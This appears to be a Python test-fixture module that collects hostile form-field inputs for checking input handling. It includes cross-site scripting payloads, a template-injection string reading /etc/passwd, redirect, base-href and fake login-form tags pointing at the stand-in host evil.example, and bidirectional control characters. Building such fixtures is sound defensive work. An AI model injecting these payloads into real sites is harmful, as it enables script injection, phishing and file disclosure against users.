"""What hostile people write into the fields of forms: markup, scripts, marks of direction, emoji, very long words."""

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><button>Log in</button></form>",
    "<a hx-get=//evil.example hx-trigger=load>x</a>",
    "\u202eright to left\u202c \u2066isolated\u2069 \u0007bell",
    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 שלום עולם مرحبا بالعالم",
    "]]><!--<script>alert(1)</script>-->",
    "a" * 3000,
)
LONG = "Ana wrote: " + "<b>long</b> & 'quoted' \u202e " * 4000
# All the short ones in one line.
MIXED = " ".join(HOSTILE[:-1])
# A name for a user, an app or a conversation.
NAME = """<b onclick="alert(1)">o'ana</b> %2F/?#&é🦔\u202e"""
